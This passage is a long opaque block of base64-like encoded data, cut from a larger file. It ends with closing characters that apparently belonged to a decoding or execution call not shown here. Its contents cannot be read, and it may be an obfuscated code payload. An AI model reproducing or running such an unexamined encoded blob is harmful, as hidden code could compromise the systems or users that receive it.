B/+sRWq7qFSr2goaHwGJaJGf1zHAodrLrULvJ2I8Qmqju8U3N+dEFZobuyZ6+29F9R6uIAqaLBkOOR5ezeJEJHQJjSMWGsjOtrHoc1+GRY2E7YZNRCVVj/h7FI34wc7My5sDFhwMbfRO9lJxbJxQtQbPPM5dkwWAVMbx/w+usxCbKAi1zQfiMKt/VK0bkqAJhDM38RYpCA9h15zM5ZqAcnd3K3mQqF5QlnZDNlzJ1zEzBWnxtZEm4ZqbI1et/sfZmnhBjxlLqYjxTUvqxmWrbk6D1TQEcTd57120iIFCyj33a481l3k7W8OgjscG26ppn4DEFJUY5PvmmBA4r+Zf5b2sMFrBRG0DT+qMgMjT3+gLZQnipq4cCuq8A95P0Y9yRPYuk7pP/VqMyTOBOh42KDhxAl7XSKX7jKttvlwaWMkLRRsHTrgtsBDRpqgdGtgqs95mEFPC45RFGuLW2n0VAkKmQK9a0xt/+4NY3Vdrsz06dcIDMz9VJ7o5v5tKYFAtPj2YFizaT902esC4ww2BZ3qsaAHYZccuoXi1qLWBGUpF93n37Bnjsq1wMeEuD5CBdLor3OT6IuYT3p6V57CLzjtnCx9FjYNwg9se35jr4UjBmqN11U+bZNyPNlWBG2r5RAxiVBdSXim9eXzy+HeMEFHdVVr/fDUgCyi/UNDG7Xow/zzTKO0dv7fIkpgEwLL5AIogTfC8pvtFa3M1+a61vDJgFRUMqVHRWxYhMRMUDsMDo8RvM2x6D4fOYNfrj1P3RNbPO7WMhvkGj57G9NnrfTm9dgkJdoBZU7x/Pp6mt7uZ6p733diQOFF2r4yX50J4rwGyGEcg7RFTVrpp1H4IbPNG09EKeke5DarsBmigr5Hys8dCUv6Ko61s9RIfY7+8QvdmfwcWKJZMV0t8oE+oTk/4wU8NAsWNzK5dA2cyDPJpKZtGsrUmG1Qjd/A5TLbySSu79BYyaeshObMduTML6swTRgMeiFL1pTI5Ra5PyyxWHqufTsbfGk/dNDA5DgW4oA2Hon34j+0r6z5/CN/Ykg/w5ma5JCQWItdTIgBOH0uQE44iH7VIsurPanov6yPDmh+e/sLyLMOQlB1GOHbAK/v57Ehdz5Wsxe/nLNrjl2l3kEOzdxx8tOzEMYlv3+lyrZ3hBk+wApSSyEL1c7AqHv0UpJ4mOIrlyzecRxTtbLMKvZknmTLF1FZZ03DD4o2sF36HmeBN4e/BtfrU3/UR4eXKTScQ1wEEOEe0lElo0u3jhvbvFV9adhDw5KChmqAPZT5mJuUTbeTIVHa1gnj0sAitYF9dtbHVItErWu1lfEe8akZ0HnrQ96RJL+i+3IfbVMNCD7AIaf8rv239wKLwGb1IMYlkX8Pi7Sgt5jm7s8oV/QwBOYCDeQ+qYCJr7L3ZU5eQTp9bGz9tcvQcNz7EkW39yK4UlY8MMnEWhnwwFr7c3kqvq8M0SAtGthqBbXxbqKTKKWa+Bo/u3nV6GVEEsQoExdrdy53M0FVfVfEVPn1zSxg2+F9TksqCkuQHSP+ZYZQV9GjeIIWt3A95nAZ/9dIYDX7zlcNo35zNvf3Dlt/zQSw90Ejau1XvO/ACKdnA8Ol1GusoDdF5wkaHeT1ZaX0L7jNhOGdM9A1vSncSIshuono3RtjxceQDD0vlsYPwKlxcCVVqNvSfmoQtCrk+vaq7Uud9WMFik1fqrtN6tGtKnYEZWU5Dfm6bQQjyFon7oe/2l3cAytUYMOqRIwVWzjtruewqceRvqtdOgYb466TG6EdLS8Y3zylTT0DYhOjA3mUpgwRa6kb19vR6PPNrQ4E0PvBLl8y1R/tAlmPTzjTHWePxWONMFh5LBoblHk0qhX+/knBf/Pc+ONRaI019A0H41X9uNdDSGyeVB870T24A5GeuzN4WR00LTRdeBc7b3Uco0RWVQXV1syFtvHaSGCh6goDfq+VdBu7S00TGzlk4fTj9MtaF5cq8dcRtX0GF0kj+rKsV8zXWjh+C/CQhWsJcjQ0BkWjCUfiCT99nii4XEhz7M37Y+kPc6NcnNj35iQfTYrHkq0RQdMxZQb8XZCVy4n+F0n1smeLxain9hN09m4w2X4ohBpKA4Jn+Y53poIKha/BJPm7BwvBveeBbivgs2UnkiW2UGNnPa/rRuU3yUbVC9UpmOKZqNRa+DucPW5HDJQSLnN82HIGjMG4Ht3UvM8pAQXl5KJ0/lnfF0swvaHu8+afvhSgu2B3XUtBckvzY0tcIf7ueEQw4Adhaywk7TyFPkCGogCWMU02zuDnT3SflLcWx7zRcHTgd2W7WgtyF9boNsVBJNYFMvB6pf/DL5Ql47Cq2fpnEprXNYTj25IrZaJUTqQxMH16PuguIgJS3y3ch01wrvjzFwdzjxwkHY9WNFm26EB6v7v1kTkESO/7y3dgpEqea5PpscQ/GMata+3S7nCKw/giQ58nNdpZsSGsjIuCR2t/0GPJLt1NJBIpbyrvJCybVZhG39Y+JVnQ67AgLr7AATyt85vGDpMLAqcKa63ScmroMUGl45Ea7s1TGEly6qFGHoZIHlPzvW4U5t2PBW/DMT8u0bEyCZwU3dL9n9/dkA3rap0LCNwZsSp5L6coJSFeOHQtn5XMs6AuC5EUl2CeFCPeW/S+o3UD0vNkm9jHD9RGlO4VP5lWPQsX8+fRGkhYvpn5YoROecGUg/HT41lLUuj8D5YNWosvS4NTjFQaFofUJA0rADtMhz1LnGnYPqg126AVRMqZCr5vP+q6iaoKG3jwnfETfgXgF81X9AQFZrtvE+1MxwG29iXEE7K+3MD2urL14SFmDlUMrrHqnr3iyT4As5E6VemcfK6g5k0LCQSc/ptIXaRiNAccP6ZrNYOxgl2kuZ6cAMgd8B92M7TOcvxU10wnshHbYfGHHG6A5+aOlEbjJFZyji8G63KlMl5iRjQU+eJcZ1fd8+1i7X/+6PprVhHpopHWna2gs7DZUwRSpbTg7xSFgiC6Xxd/Zi4el6aGqKk+qABMK0/iAxNCD6D5f0rcZR6mu3pkqLZujk/1tTNS0JsQdMjQiV8S9btscYNhxWSY85yGAbPWAE0X0ici/PUuHZ3NfCHx2aGPVm38bA+/su2lWrzjvi+28DSt8Sf1lcOosZP1ayEAqhLQTwvkKiYJuT968+j7Brw+4Mxqm6LQcdM+DyIMkxwG4adO6znK5csqtHvsCfFABzooeJ0IvyE6GpKDowD7ukMJbyX95cupt/dsouBuAnwZqGAPVrSavwygna7fsEqkDbQNqXIsMftMcUj0ie22MZeU0tpvkh/sBSqrUvG9eVO5oO3hmOfUYO85KyoEJXJoI5J2OjY7J6ttA7ToEcXA/WsRGrD0/MmmS63keBFNBCKr+ZUF2dryyWn32bDPAkqfGIlOiJj+fBxQHM+5IuWff58L9J3JUS7QbVCl6K3wu6bSJ2KgrGpZ2xhae5yofuQ9ExL0n2NwfWS0afNS8togdUv1EeBwXBNBhaVgb/fbhooMcD6mDPRjmKONxm7Hx+TbAzCSYH5nkDIsSd+LF+B74SKckQfACIO4rNwCsPUXT7EX4QEF0d7N7gsl4Zu9V8NMk8ScfgONk5t/dX7GzFEn7hGZPvc3OwPBl61dHs2gOzG7JJ1T2g8Lo5KqrX9G2nabXndVAQtaWoqUmywWHeRCFMFpE28kt8I4owKPxaQxcHBnzFxsLYg3IwlEzz9qBZMaRm+FafUyHogiwN9/H3UpzSqoJHGcMumZOnvi3yGsNZJOQHqoaQ2f0DnUCxnwj4yVZZW8eMIKPvVSJM4tcfj6WQL4l/mytb/5+uNTkgcuWZD44Q8g449Vsvmg1ICF6LRmb9mq9daDIbM+5SnSaAYizEnLwhfVwBPt7FDLgH5uiK8Yt0Wa/UqyJxGlvNh3ae4RG50KdRZeMhJUZRSyI99Vbf7iRyMxLaQ1XwLy/lMBNX3w45JKG8XA0rvxE0cn0Dvqaru2FQu1zk6JP4iMr2ZaqcQjBEimHA/f0KFAaA+yDr+hgXvIOG9K/LaYnlaHtdN9EcbuL03yefkTlZi9LrhLRdL+oyJzh5LhIwHk+mdHO+vaUa13Zj3PD4yQ6vv0QxG1LyeLAvvUhRcYy4BbLXgtI+lRUAyuB61XU0kc5xkySotxl7gR0L1+H/JvhWRbDbPICO/dGNjf3qWpSGFCcGpVLbvITiFiet94pUdFR0wmc4DgN2CjEMWPt/5MAM4pj93XCuzmfhwdmSC6wN/YMzMJj9ZHsX4yTfbI5EJmN1cimbcwd2aznKQbHnawS847+GhViwDJezGZ0Q3DORlZa5+7bkBDXladOCNCwJXe3bsIHdyaNc0sp0VK/nfaOGG+XWfXDls+LAOVQqhKCf9yg1OZJrWACRPlBbEk1Dv56AXp8CEZc8++y5yiBQdGq/Gt5RNWK8B3Q0eZeEsI20xk3xwviHx+eTfdQW+pjC/PC7J2xETHwenlSPP5aWIYjh9NpHp9XM6hC412Zq+Dbqer1c6DLjPkpNNPfbxmzcIynqGxb8iZ4ZuMcgwJQ7n8j5SX5MPaA6QVWZEcn038xP0I2ePDaXecxZqToDYdnPYCYfLFUizmuRdSsnENmVs7ow3vBUXK0oTFcONsa+eE70R8pjg4AiQk+Dd5WGBComA88GhYvQM3SMMaHSFPTgmYXhGLcX22JCPDCx0ej7WQ7jDlDDcgNomacakxiKU1S2cYftlIZ2oA4VLLEYshhnf0uFTlXGmdoGVZqFjfG1RZp73VPvpUoJloXRFN7VsuWUs5Cs8nNTps/tjLshHQ5I1J2Qi+JASOwvGflSGz5HguBF13f07AnmB1dkPAGIngACRlq4YT75ptuXtGOpOx0UwVRQ9u+aPHddnTAGRiJESt7Svai4NMV18tZGqIaZUbZfvsgFydzSGBQOWJX5V0ysbx9uuOZ3xk0+T+GaneQGNmQiQKJCU0hwEVN/EAhz2dopMqVUpr80LF41QoN7uzqfjNdu41jobrDJarWGFLWcogbnh/9BhTYk4vfMQPPo9VVb+XKac5RF6oleN+eRmf/0Y5Vi8zm4euMS7HcG3oscv7XY0ETPpVasMRNeQS0rfeZjg8nxm7dwkefwir/7ZeFg5U0LvX3Kmy7dAAOllo6EmaEdHUxiAG3jwqNdZjKTpdMZ6h3Gl2uBK7vBxzc/etk1FYmJTnhrimB3VT1Ug3qFtSm0gkQvygjnerWaxnwbK3XFVbgnLyME450iiEMEYfA0DFdBUhR4+HT/vYyG+z72j42RN7LaV2QAxSWrnnAaFdk7UtXaNVFkZ4TX1QugwVMKdAKNrnu1dnXriRA33Oju1+/HFYbQDIX/KVFZ8IzRluXw2j0Uq/k0JN/xTN/5Up/BsQZzt4RC2m1TQqXSxPoO5VTUQd7Yz4TO3yTwCrpMWVSv4eTfX/nxIA6wtXx9JxcP86K3ZenjAfDZNUH8Br0UuwCgWArdb390IbLsT9FLxFsWRvrwZO1Hjl8t2Qklt2g6dlNFjkSyg2TVMPcJo1vFTdDjsjMv4TcMyLfi9tuTWzXBPk4XM5LJOR3VzRvySA+1NxA2Zy55SjWjHwsOBFMxLfIas20KLIpMi4S/4At4jJSVVpAco2a4lww065lXv2TLIL0j0F2KU/hZOaBkvJYKmojx0m5vSjtDZ+3FmGE8RHBu0QujwcFlm0CLnD90HvireEmSnHQefFgf4tc7BMnS47wBS+Tl/zE54Tl4LpdZ6DzdM9JWHEFaQ07NJuEfqG/mmC0tUJiqXBwq8JWipn1TY5Fuv6f5A0aiBA+A+NPE6TvnsUE7Xi2YkSlaF2EOe7JQHmQJUXBU1K3foyL1DA5ujr9Chxse6+5Go9NasPSrU9K0+L0rnRf58zTDEorxSjOPY1VBS5R/tk/y09SWvZtwkJFSBTfpT8hS8Ydcqd/mgzB3fH5Tdd59GhozgdDz1XGBvUrguSeswzEAduf3E/whUd0JVi1m3qBTSB0nTvrY/GgOJqdIyAwLzV9i9BOFRmA0Anqpi0QMftSNw+wKWKh98PKsP0VPevBoCtXYzpocPifTnjMytfwUYB2UO1gplInG39TTIdvAXFFo7kCHkfHFXPKw7O3exMYhuaNSzIPFGMsDVAG3cWj8SQdz1OT0wx0yrUNnRatkJB24TGs57O7UkL2KtVgn2A6m3e5ZPS3Dstv2Z5JJnmL8mGVhh6ji360wXYaeZDinon6R9gSITeGo+QLDUl4SM+J9BfzOQYA7ryJ2mNrq5NuEzXXiqcNONAv8OwvG9FYr5EFRpoHFrU4Z8ybw/bp9tWiLM/LTLVjXo2/kytxxYnRpmIDkG4OqsTZfo7tc1roo1grxkUTZAo353ky7mNNAORxjwHUuruXHEaxzgzA+MtXNXI8HS0HXnOTgA77HH5Rtv1rHJfYXJr/w7ZKZ2SAPz/5n3GJq/i7ooQBi1U+TgSzHa/XlKWZE7yifXk7sqxkjZRU+B8Z0A8osF9AGgbrz3KaGW+4l9RBdoCKDc8XpXLcFUVo3ZLUe8S4326QjSNavt4cq8JmDoktFUYQKgnw9SdGoNhiZqH9UiJ8Q+LY689dFYN6tOQR7hdfxjmDg3jzgrrY5oVwGZM3TNQ3gJqVgDpEn+BbAc1hRSq1GGLzE18HsnMPNqAVKpKVphpM/lXZFgAowLBUTF97aFZzRHKxZSHPK0Cw4Vb+xMXvuh2Jl+ayV7d23JZ8Ck9/GJ2iucNnb20212eevqgeE7QiXqKgR10fLc5vovbInRlRcdU73X4CHkwJ9t+uh+djicR7z7J/p3LiEy4T7ScRCOV730ZNKXttU+jOuAodQ7neHY8AckIGeftedAqMB9j9ws9eDJ7rWRkpSsy1nV0fPFhPaRo6uV/2msjOCSuOr2UUafQ39LO6j7pl52RRcBVYAH33PnXAfmj+N25KKOpo3tpAS0S7gvpqVwYXZXnebxuZ9hJGl/k+jdQfevz2794XqA1ocR9MxOzJq6jZcCptK66L3xjiTAM6SSy4sYQdjVhYpr7wxYlD/6T/hCgevdFDmm6i2kl97obAoGz8TGf+pgGn5t8tkFFXUzC73vJ5VNIVrWhOAkgNaSm4GU7yw4F1X9HeC38jlUO3oV5J+sCB/gQ+y1gPXfXpKwkKPBgDjbdXCsPiBxAU0Iva4CYJy9t/9GXkq7yDuYvItZ4Ubdc3tk0E580ZLvneQcXtVL4N+zBd4yj+5iOa0vwxM/ewlyTuLXiBTBDs+CJe0SB4ZwDHpK1sq6IGwvA9KS7LEIN5ZRdjDqmY/OC+/b8mPAZFPqZwVPcYgBjr0B5vpBdCsf6NysjrsPBph4KtLWZG6UJ10NYtLnZ3YB2SP0QXlp7YWEM2JuqcNebxCkkXzkK0d5Fk8rXT718hlogg3krli6xAtO0330/qnKHXEW1jA5+ZMiI3rZf12bAOIwjl4JcCpacUfORA4MgvlPbGfL1pPLWrX7cVkd186H3tcDnyVbskVQEXjHwQHRfGqvON2yR4wT6mCwVnRuV3Hr+jXKttwVV9vg93IrxENWHvmKW+qyVN4J8Lscl0L3+mJ3bswMxU8DiEArsWSBF4lE4VdEt0Rng2hSNUByRspVAWbSSoKSZa5VrkS7PWeBIJjqNbyN0CP/DDqRIqn5qFKciFmFcH7fKAtO3FlUoA5nirfPNHSv0c4zg7LHsflILjwE4UjgHrSovAzEO+kOqXnMF/xYkCxgN0HJx1j7tvREFaznNfMg5BOf75WyC2nn+Ctnms4RWOVkP/mwZyD0g72EkO6mqA9bkqejfYkay5q3uCXn/BjpsIJ4MPFq31sLfXW37mV849Krhq8atx/uAlR3ZJLJ7MZwVbiWSrYBZMZFQq13twrhfpx/dUIs65ikiheW5anFi6ViLQDXxR6mwWaSGuEOXuCEOSQfDhhAVSZqxbBRN0Bz87iOHfPUQZpgaSrzyD/FHvX2acSiYcDAAtXcSC70A7mwsptBTXBcvc396M+gJr+UtUiJkechyKH9sPIvkpfH9xbpQnIPyFyQI/TnJb40fB1YJ+RhsAVz8D+IqTs99ebDnDm9NDqD8Hfy6JT2XNpLfYH9oM75YAh4CfhHZI6UZBLekd8cNIkgAKkuZu1BG61csxp0nUNNB60XzCgNTT1Pj9o2K7tkpAcroVfNMih4yoZWGyB5XcejEV/FGhjdE3ZZLWBs7tLgCgkgxcfHBCSeMieY74N9TgNsznhNSBbw/ih7xPfPtpd2sGlrI4UvBVh5J5Nck8gKEqsAL01b8gzIg2RKcy0eyKzILJJR1T033exkc5meV1uzGdSJjuDnMQUwUD84Zya41Arbfvza3iAj3g5hzS7M6pZ4IJ4cQY1hHHtj/aQ3MjuzsKOf62UsRxU/wBWydBs/HfsOA0m9uUfId6kWl1HjWrb21cCErL5sI4DA9EyuP+JmhdMx9DdxkfWtYwQcsteOAFFxouj7PLQgTu2OtFgnI4oMgurhCELbpgROS/kbeMlMsm++H1d9RXAkHdYjbklkLFxQ7UFdnlwCvGO6y2rPZ8FVFvPNNP3TJA3jQjawvsYnkjcVQmKsd4kDfLCIcYKSLH5i7A9ezx0DFmBvYKyO+FM0Sjwd+8ceEsATvAI7ftUdhmCvLAEv6NhmFg/fCXyUlhBGItp5Sf6kjxkuefvGzek0UEWIL/d8FdkUoucWeQwB5CKHngz7YWj1n5Hms3TIx3J/2maNtBdfP2nNTrfhZlDIf4ejaET43diCQ88AXbLTDjSypHpP2uGQ+GOyx3C8YCwtqw2cKj/KsK7JI/HyNN88Rge1GVfO0vt9wFKT6NJdpoDWQxQ7OaY0gDsvCvxD5V8R/FJcgj3sRn1ALCATlR2dlY7BeDj0uLT9NbnCd2Lk6/kAP8ASjHPzcED/h7PgYld/lKZcuqNDmMbRaa/QX/4eAZQvmwBwANoPKlfC8DI0v/pDDlTKrJ4wlcqCFpoRgEWle4L6faj6A8mtOgsb9J82jf/B+EnL2+j2J1i+vZp4ZzaoC+YOyTVQIlpPL3koAuhfKGxUMjTOf0Dv9z/MfAhw3Iuue/oYEQVgIdr7iuXCoPyS6mwJeyP/SpoZf/tujeWqaHol0AhkanM1/x5kAkMuhlAZjC2cI29rj/nSRjiTN9Ojr8ZDfagv78bcQq6DbV/lvxjR+H0896QMuR5eykyEpaNcd1ynk2QJkTiQTA2GKE3QGu3Pnx4o7YOTSjQGNhoVkk8nUcyNEomhNA60aWo+zBO6Omk/jApeQGtElh7509mmiVKxHaIvJKLlZTym0HHWgJyCaG/E4c+3ttyOY8QUHOGYJpO6RQ7i8hEAMTKG+vbqSgzYXW0AGXMywZSIq1FjT/SJa69FJU99G4B3hgWHu8zYUNgxYIiIrIfkjKGKk/xr7TbQS139uXU1m3R7E3WQ+05uJCd/P+zqNxgz7623buoMyxF4nGddZ9Y9GXBZ1w94OArtbHyzuHIrOkZg2nVw4QSiAG3tiwpUvqI6BWKW6FSTaC3vk1gBUrkpiib9bun4cDRqpmExjwhAlFLXQAgGmYvo7f4U6qNzDh68CP1ebbwK6V1jyhWDoXIzBz3mDyI8UTjWXvFPb5XWQl0KdhQhVZBS/7UW7SMeu0KUYKQAFMmsj0of2Y15xIbGovSZIE6zoCYXJsb8XoG0wE7Zze9Yp/ytjQCYqzE3+40N/dRS8Io87L5WjnGc2p72UWcjwb2xsNoDnv+W+me1uTgr94mMFqNvwQeZOlNW5Vv2D/31G6nGqlQMxDG/AGqLZdAslfqPbpGE0rYeOeqkhn9NVyp47SXSLTld1yh3h71QonqhQsbjDPgn9s0ZCTk5sBWN7m4rNaRPQIgeHvcCGHdqd+AyDbUE+2n6lL/rKRMes+ZUhHALgaLynuQGOoYTuu96m4y6wDlHRks6e8yfsCVKWjnNiR2GG0DFng7c5CmXyhEw35etLno0tNwUaNKSLQ/BQHkNt/lAvxh45+SJ0somymnpOJ4cLbUx/KpEdvY+M3Nrt61AkLoAa4Tmy/W5RRlYnaavmbI6uOn2B+Ypxx6NUU/K1gmPJvQF6q/OZZdwKIWxR+jpmLrTqj8nwZwf022QQxIZjDA70C5nBOT645IlB+8KxT9TUHHyMgZxEYzZjW8pBqwEOZ/A2R5ZFXJsxCTHOs7yWp5dpDZHOBksaaQ2Pnw4fKosF0U87Td87QEmPTNGWc4fHgzgiKVcelaQiqy4ijogk7n2OCnBL6qtJb3qToG+LAyyULL+VLsccjB1Sm9I+s7JkBxdLA/l8Euk/rB/Aupijc+KYpgcoERjn6g0KkJlpJxQzIinz1DNfbZ64mq+W355tFFFYgopeQ6WL3wDOpevsu3dZMb7Yqb8aiUQXpDpXY+1GMkVaiFXUMZSa3bvuvSu3Kg6tEV56KQjgzveNe3bm/iWTAgKv+rRw0cMvjMpprrIIay9hvxiTR11kKofO5EOA3eKjpIWtQrmHYaYKzz7j0Y7RUEhuYY4bOnOtvMYo6F3SXB4/vSRLl3deWtOWQJyGM7qhbbnq9s3KReebvmsLvc5rzBhQLtw5aozj5EKyl6IwAf2xOf3fb3bicZRwfc2ybn8YrQ2V22okGhK2CbsPoqAGcJhXxCABXUeUPnE/UuSqR3xF8nNspAHKlQnL0a5bR0cekEMOq9hHidIrnu7g5Gd0mapWw89dUwPjTIUsiRzAoEiVa1D1qkYfxMlWVUeqceoELtJkBtJAgG4VvYH4mx2rLFvbeGAdo8maRBf5Y1VE9kfzs8ttRR4hELXSIqbxdIiBRvM35aEIvfjINkgdi8QT4mlGMq865FSEKeFIGzRxTSfa1Ci4o6Z0aslX7FSeTf1m/N+ES2hDsHwk60HS3fWjOQCEQAQbCguZSRC9RC8qnl/mhdMhHW2jD0AA0ZPnVonkyXRiyoJOw8V4nbz75I/YYyfS4eSV71vRC/kY9KNxMq7N+BypLApa9ntEtYRaDJFI02DzIgYObnopMPnPqjgk8w2h63Zm70f98Kli195+JciAho3/UKZpL4EoC3YP2CfxxluDAR5hF1MXM1Kxk6+OAfErAnJdjflgbfSzinPvI/RYdm10NMBlFoEKTcEXi0q8rCCoOsf/JbmcQV1REXLlqWJoawokjG1wSoGQ3sDwxSNHLyaPGte/EdbwJouB9gaYnVCL9AYx5al+lr1yUZIuB5xCJegoMvi6ppisXr/iYCQVugWggHTdRFE5mVf/+LUQ8tqPnM6REKTqAGfKiOjpvQ0pZmOEW/iugysx4DC31bW9qQ7nC/0lKP0V9PrG1RoyFzFqVSPt4LZu+iEH93cMsATyiSumCe9ZEQuvsphSR2V/4UsXsUFWgdLHXQA8TJzbzmrH4u6Bs/rWKMSnvG2j/RfuUI2OYDBWz+9h98BwVNFgB0rcnwr68TUs09Pnk0SfpcEdf4QjqfHMUhKRCCQzUwLvb05yKcurZLQPiucJhu5fqTJHLEk+Z/njWRjDFeQefj47EB7GFrJdQ0INmMyVnQLB4AbikpfA8ly7eQGY62uwrIlGeT5v9xj/2o+8S/IepmSXEWgljM+TTMM5HELjqacad16j+oxZSK+QNfwl7Gpbd7cE3sWL4LS/jNrQk+Dc/Jkb9HPcaJzhS5+cCjw84py5UVl7T/1ay9nZsx/WYgXnCU+S6WoLswY0NBbfIlUa9kA1FKQTQAEPwFAYteJK93z6/PJ//998//PpXufSdUvce/ugHJrRbqbzoXeceuIxDKKnLCBuUROFcxvH/RRVw+gWe7mcwJe'))